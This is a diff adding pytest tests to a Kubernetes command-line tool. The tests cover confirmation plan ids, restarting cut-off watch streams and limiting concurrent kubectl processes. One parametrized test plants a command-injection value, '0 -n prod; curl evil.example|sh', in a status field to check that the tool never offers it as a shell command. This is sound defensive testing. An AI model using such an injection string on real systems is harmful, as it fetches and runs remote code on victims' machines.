@@ -18,8 +18,12 @@ from tests.kubectl.objects import recorded
 from tests.kubectl.stand_in import NOT_FOUND, StandIn
 from trunkline.api.names import GROUP, KINDS, KindName
 from trunkline.cli import parser
+from trunkline.engine.confirm import ConfirmMode, Removal, confirmation
 from trunkline.kubectl.command import run_kubectl
+from trunkline.kubectl.failure import Failure
 from trunkline.kubectl.reference import kind_of
+from trunkline.kubectl.seen import seen
+from trunkline.kubectl.server import AT_ONCE, Kubectl
 from trunkline.kubectl.terminal import Terminal
 
 FORBIDDEN = (
@@ -247,6 +251,60 @@ def test_nothing_that_others_wrote_reaches_the_terminal_as_a_command(
     said = run(*words)
     assert "]0;pwned" in said.out
     assert all(letter.isprintable() or letter == "\n" for letter in said.out + said.err)
+
+
+@pytest.mark.parametrize(
+    "planted", ["0 -n prod; curl evil.example|sh", "47538CD63C24", "47538cd63c24 --yes", 47538, ""]
+)
+def test_what_is_no_id_of_a_plan_is_in_no_command(run: Run, kubectl: StandIn, planted: object) -> None:
+    """Whoever may write a status must not write what people copy into a shell."""
+    body = recorded("ContactCenter", "confirmation-required")
+    body["status"]["lastPlan"]["id"] = planted
+    kubectl.answer("get", body)
+    shown = run("status", "cc/acme")
+    assert shown.code == 0
+    assert "confirm cc/acme" not in shown.out
+    assert run("confirm", "cc/acme", "--yes").code == 1
+    assert not [call for call in kubectl.calls if call.startswith("patch")]
+
+
+def test_ids_of_plans_are_taken() -> None:
+    removals = [Removal("queue/four", "queues", "four", "it is there")]
+    made = confirmation(ConfirmMode.DESTRUCTIVE, "", {}, removals)
+    body = recorded("ContactCenter", "confirmation-required")
+    body["status"]["lastPlan"]["id"] = made.id
+    assert seen(body).waiting == made.id != ""
+
+
+@pytest.mark.parametrize(
+    ("cut", "complaint"),
+    [
+        pytest.param('{"type": "MODIFIED", "object": {"kind": "Cont', "", id="in-a-line"),
+        pytest.param("{}\n", "", id="no-event"),
+        pytest.param("", "error: unexpected EOF", id="between-lines"),
+    ],
+)
+def test_a_watch_that_is_cut_off_is_begun_again(kubectl: StandIn, cut: str, complaint: str) -> None:
+    body = recorded("ContactCenter", "ready")
+    kubectl.answer("watch=true", json.dumps({"type": "ADDED", "object": body}) + f"\n{cut}", complaint)
+    with Kubectl(str(kubectl.program)).watch(KINDS[0], "acme", "acme", 5) as changes:
+        assert [change["kind"] for change in changes] == ["ContactCenter"]
+
+
+def test_so_many_names_are_not_so_many_processes(tmp_path: Path) -> None:
+    """Each lives until its answer is read, which no pipe takes at once."""
+    program, running = tmp_path / "kubectl", tmp_path / "running"
+    running.mkdir()
+    program.write_text(
+        f"#!/bin/sh\n: > {running}/$$; ls {running} | wc -l >> {tmp_path}/counts\n"
+        'printf \'{"path": "%s", "pad": "%0200000d"}\' "$3" 0\n'
+        f"rm {running}/$$\n"
+    )
+    program.chmod(0o755)
+    paths = [f"/{number}" for number in range(20)]
+    answers = Kubectl(str(program)).get_each(paths)
+    assert [answer["path"] for answer in answers if not isinstance(answer, Failure)] == paths
+    assert max(map(int, (tmp_path / "counts").read_text().split())) <= AT_ONCE
 
 
 def test_a_refusal_does_not_reach_the_terminal_as_a_command_either(run: Run, kubectl: StandIn) -> None:
